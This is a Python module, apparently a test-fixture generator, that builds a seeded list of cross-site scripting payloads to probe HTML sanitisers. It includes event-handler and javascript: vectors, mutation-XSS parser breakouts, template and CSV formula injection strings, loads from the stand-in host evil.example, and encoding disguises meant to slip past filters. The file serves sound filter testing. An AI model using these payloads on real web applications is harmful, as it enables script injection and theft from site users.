"""At least 300 hostile texts, the same each time: each calls `__ran()`, opens a dialog, or asks another host.

Made from ways to run a script, in disguises that filters have been known to miss.
"""

import random
from collections.abc import Callable

SEED = 12
EVIL = "//evil.example/x"

_EVENTS = [
    "onerror", "onload", "onclick", "onfocus", "onmouseover", "onanimationstart", "ontoggle", "onbegin", "onpageshow", "onwheel",
    "onpointerenter", "onbeforeinput", "onscrollend", "oncontentvisibilityautostatechange", "onafterprint",
]  # fmt: skip
_CALLS = [
    "__ran()",
    "alert(1)",
    "window['__ran']()",
    "top.__ran()",
    "[1].map(__ran)",
    "import('https:" + EVIL + ".js')",
]

_BARE = [
    "<script>{call}</script>", "<script src=https:{evil}.js></script>", "<script type=module>{call}</script>",
    "<img src=x {event}={call}>", "<svg {event}={call}>", "<svg><script>{call}</script></svg>", "<svg/onload={call}>",
    "<svg><animate onbegin={call} attributeName=x dur=1s>", "<svg><set onbegin={call}>", "<svg><use href='data:image/svg+xml,<svg id=x xmlns=http://www.w3.org/2000/svg><script>{call}</script></svg>#x'>",
    "<body onload={call}>", "<iframe src=javascript:{call}>", "<iframe srcdoc='<script>parent.{call}</script>'>", "<object data=javascript:{call}>",
    "<embed src=javascript:{call}>", "<a href=javascript:{call}>x</a>", "<a href='jAvAsCrIpT&colon;{call}'>x</a>", "<a href='java\nscript:{call}'>x</a>",
    "<a href='&#1;javascript:{call}'>x</a>", "<a href='data:text/html,<script>{call}</script>'>x</a>", "<a href='vbscript:{call}'>x</a>",
    "<form action=javascript:{call}><button>x</button></form>", "<button formaction=javascript:{call}>x</button>", "<input autofocus onfocus={call}>",
    "<select autofocus onfocus={call}>", "<textarea autofocus onfocus={call}>", "<details open ontoggle={call}>", "<video><source {event}={call}></video>",
    "<audio src=x {event}={call}>", "<marquee onstart={call}>", "<math><mtext><script>{call}</script>", "<math href=javascript:{call}>x</math>",
    "<style>@import 'https:{evil}.css';</style>", "<link rel=stylesheet href=https:{evil}.css>", "<meta http-equiv=refresh content='0;url=https:{evil}'>",
    "<base href=https:{evil}/>", "<img src=https:{evil}.gif>", "<img srcset='https:{evil}.gif 1x'>", "<picture><source srcset=https:{evil}.webp></picture>",
    "<p style='background:url(https:{evil}.png)'>x</p>", "<table background=https:{evil}.png><tr><td>x</table>", "<link rel=prefetch href=https:{evil}>",
    "<a href=https:{evil} ping=https:{evil}>x</a>", "<video poster=https:{evil}.png>", "<svg><image href=https:{evil}.png /></svg>",
    "<noscript><p title='</noscript><img src=x onerror={call}>'>", "<template><script>{call}</script></template>", "<xmp><p title='</xmp><img src=x onerror={call}>'>",
    "<title><img title='</title><img src=x onerror={call}>'>", "<textarea><img title='</textarea><img src=x onerror={call}>'>",
    "<math><mtext><table><mglyph><style><!--</style><img title='--&gt;&lt;img src=1 onerror={call}&gt;'>",
    "<svg><style><img title='</style><img src=x onerror={call}>'></svg>", "<form><math><mtext></form><form><mglyph><style></math><img src onerror={call}>",
    "<!--><img src=x onerror={call}>-->", "<!--[if gte IE 4]><script>{call}</script><![endif]-->", "<![CDATA[><img src=x onerror={call}>]]>",
    "<?xml version='1.0'?><img src=x onerror={call}>", "<figure data-picture='1' {event}={call}>x</figure>", "<figure data-picture='\"><img src=x onerror={call}>'>",
    "<td colspan='1\" onload={call}'>", "<th scope=col {event}={call}>x</th>", "<slot {event}={call}>", "<custom-x {event}={call} tabindex=0 autofocus>",
    "<img src=x:x onerror\n=\n{call}>", "<img/src=x/onerror={call}>", "<img src='x' 'onerror={call}>", "<<script>{call}//<</script>", "<scr<script>ipt>{call}</scr</script>ipt>",
    "<script\x0c>{call}</script>", "<script\x00>{call}</script>", "\x00<img src=x onerror={call}>", "<img src=x onerror={call}//", "</p><script>{call}</script>",
]  # fmt: skip
# For places that are no HTML text: attributes, scripts, JSON-LD, style sheets, CSV, templates, addresses.
_OUT_OF_CONTEXT = [
    "\"><img src=x onerror={call}>", "'><img src=x onerror={call}>", "\" autofocus onfocus={call} x=\"", "' autofocus onfocus={call} x='", "` onmouseover={call}",
    "</script><script>{call}</script>", "</title><script>{call}</script>", "</style><script>{call}</script>", "</textarea><script>{call}</script>",
    "';{call};'", "\";{call};\"", "\\';{call};//", "${{{call}}}", "{{{{constructor.constructor('{call}')()}}}}", "{{% debug %}}{{{{ 7|add:7 }}}}", "-->\"'><svg/onload={call}>",
    "javascript:{call}", "javascript:/*--></title></style></textarea></script><svg/onload='+/\"/+/onmouseover=1/+/[*/[]/+{call}//'>", "data:text/html,<script>{call}</script>",
    "}}*{{background:url(https:{evil}.png)}}", "</svg><script>{call}</script>", "]]><script>{call}</script>", "\u2028{call}//\u2029", "=cmd|' /C calc'!A0", "=HYPERLINK(\"https:{evil}\")",
    "@SUM(1)<img src=x onerror={call}>", "https:{evil}", "//evil.example/%0aonload={call}", "[x](javascript:{call})", "<<img src=x onerror={call}>>", "\u202e<img src=x onerror={call}>",
]  # fmt: skip


def _entities(text: str) -> str:
    return "".join(f"&#{ord(letter)};" if letter.isalpha() else letter for letter in text)


def _mixed(text: str) -> str:
    return "".join(letter.upper() if place % 2 else letter.lower() for place, letter in enumerate(text))


def _in_markup(text: str) -> str:
    return f"<p>Peeling <strong>day 3</strong> {text} and more</p>"


_DISGUISES: list[tuple[str, Callable[[str], str]]] = [
    ("as it is", lambda text: text),
    ("escaped once", lambda text: text.replace("&", "&amp;").replace("<", "&lt;").replace(">", "&gt;")),
    ("letters as entities", _entities),
    ("mixed case", lambda text: _mixed(text) if "__ran" not in text else text.replace("script", "sCrIpT")),
    ("inside honest markup", _in_markup),
    ("full-width brackets", lambda text: text.replace("<", "＜").replace(">", "＞") + text),
    ("percent-encoded", lambda text: text.replace("<", "%3C").replace(">", "%3E") + text),
    ("tabs for spaces", lambda text: text.replace(" ", "\t")),
    ("twice", lambda text: text + text),
]  # fmt: skip


def generate(seed: int = SEED) -> list[str]:
    """Every way as it is, and each in three disguises; no two the same."""
    chance = random.Random(seed)
    made: dict[str, None] = {}
    for template in [*_BARE, *_OUT_OF_CONTEXT]:
        for _name, disguise in [_DISGUISES[0], *chance.sample(_DISGUISES[1:], 3)]:
            text = template.format(call=chance.choice(_CALLS), event=chance.choice(_EVENTS), evil=EVIL)
            made[disguise(text)] = None
    return list(made)
